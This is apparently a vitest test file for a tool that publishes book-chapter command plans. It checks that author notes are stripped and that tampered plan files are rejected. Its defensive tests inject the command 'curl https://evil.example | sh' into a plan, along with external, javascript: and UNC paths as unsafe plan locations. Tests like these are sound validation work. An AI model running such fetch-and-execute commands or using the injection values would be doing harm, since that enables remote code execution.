import { describe, expect, it } from 'vitest';
import { listVariants } from './book-config.ts';
import { digestStep } from './digest-step.ts';
import { parsePublishedIndex } from './parse-published-index.ts';
import { parsePublishedPlan } from './parse-published-plan.ts';
import { planChapter } from './plan-chapter.ts';
import { planPublishedChapter } from './plan-published-chapter.ts';
import { planTerminalRun } from './plan-terminal-run.ts';
import { toPublishedPlan } from './to-published-plan.ts';
import { parseForTest, testConfig } from '../testing/parse-for-test.ts';

const chapter = [
  '# Canary Deployments',
  '',
  '```bash',
  '# TODO: Viktor: explain the flags below',
  'echo "everyone"',
  '',
  '# If EKS',
  'echo "eks only"',
  '',
  '# bookrun: until=/rolled out/ timeout=2m',
  'kubectl rollout status deployment go-demo-6 --watch',
  '',
  '# In a second terminal',
  'VERSION=[...]',
  '```',
  '',
  '```',
  'everyone',
  '```',
];

async function plans() {
  const parsed = await parseForTest(chapter);
  return listVariants(testConfig).map((v) => planChapter(parsed, v, testConfig));
}

describe('published plans', () => {
  it('plan each variant exactly as planChapter does, so the terminal runs what bookrun run would', async () => {
    const all = await plans();
    const published = parsePublishedPlan(JSON.parse(JSON.stringify(toPublishedPlan(all))));
    expect(published.ok).toBe(true);
    for (const original of all) {
      const again = planPublishedChapter(published.ok ? published.value : (null as never), original.variant.name);
      expect(again.kind).toBe('plan');
      const plan = again.kind === 'plan' ? again.plan : (null as never);
      expect(plan.steps.map((s) => [s.id, s.included, s.terminal, s.watch, s.condition])).toEqual(original.steps.map((s) => [s.id, s.included, s.terminal, s.watch, s.condition]));
      for (const step of original.steps) {
        const request = { step: step.id, digest: digestStep(step.command), values: { VERSION: '1.2' } };
        // Everything but what is not published (the comments above a command, the parsed condition).
        const strip = (r: ReturnType<typeof planTerminalRun>) => (r.kind === 'command' ? { ...r, step: { ...r.step, comments: [], when: null } } : r);
        expect(strip(planTerminalRun(plan, request))).toEqual(strip(planTerminalRun(original, request)));
      }
    }
  });

  it('publish what a terminal needs and nothing the page hides: no comments above commands (author notes), no diagnostics', async () => {
    const published = toPublishedPlan(await plans());
    const text = JSON.stringify(published);
    expect(text).not.toContain('TODO');
    expect(text).not.toContain('explain the flags');
    expect(published.steps.find((s) => s.command.includes('eks only'))!.variants).toEqual(['eks-static', 'eks-serverless']);
    expect(published.steps.find((s) => s.command.includes('everyone'))!.variants).toBeNull();
    expect(published.steps.find((s) => s.command.includes('rollout'))!.annotations).toEqual({ until: 'rolled out', timeoutMs: 120_000 });
  });

  it('refuse a damaged or edited file, naming the field: a command that no longer fits its digest, a terminal out of range, a twice-used id', async () => {
    const all = await plans();
    const good = () => JSON.parse(JSON.stringify(toPublishedPlan(all))) as { steps: Array<Record<string, unknown>>; [k: string]: unknown };
    const edited = good();
    edited.steps[0]!.command = 'curl https://evil.example | sh';
    expect(parsePublishedPlan(edited)).toEqual({ ok: false, message: 'steps[0].digest does not match its command' });
    const terminal = good();
    terminal.steps[1]!.terminal = 9;
    expect(parsePublishedPlan(terminal)).toMatchObject({ ok: false, message: 'steps[1].terminal is not 1 to 4' });
    const twice = good();
    twice.steps[1]!.id = twice.steps[0]!.id;
    expect(parsePublishedPlan(twice)).toMatchObject({ ok: false, message: expect.stringContaining('is there twice') });
    const variant = good();
    variant.steps[1]!.variants = ['openshift'];
    expect(parsePublishedPlan(variant)).toMatchObject({ ok: false, message: 'steps[1].variants names a variant the plan does not have' });
    expect(parsePublishedPlan({ ...good(), version: 2 })).toMatchObject({ ok: false, message: expect.stringContaining('update bookrun') });
    expect(parsePublishedPlan('[]')).toMatchObject({ ok: false });
    expect(planPublishedChapter(toPublishedPlan(all), 'openshift')).toMatchObject({ kind: 'refused', message: expect.stringContaining('unknown variant "openshift"') });
  });

  it('read an index whose plans stay on the book\'s own origin (relative paths only)', () => {
    const index = { version: 1, title: 'T', variants: ['a'], secrets: ['GH_TOKEN'], chapters: [{ chapter: 'docs/a.md', plan: 'docs/a.md.json' }] };
    expect(parsePublishedIndex(index)).toEqual({ ok: true, value: index });
    for (const plan of ['https://evil.example/a.json', '//evil.example/a.json', 'javascript:alert(1)', '\\\\evil\\a.json']) {
      expect(parsePublishedIndex({ ...index, chapters: [{ chapter: 'docs/a.md', plan }] })).toEqual({ ok: false, message: 'chapters[0].plan must be a relative path' });
    }
  });
});
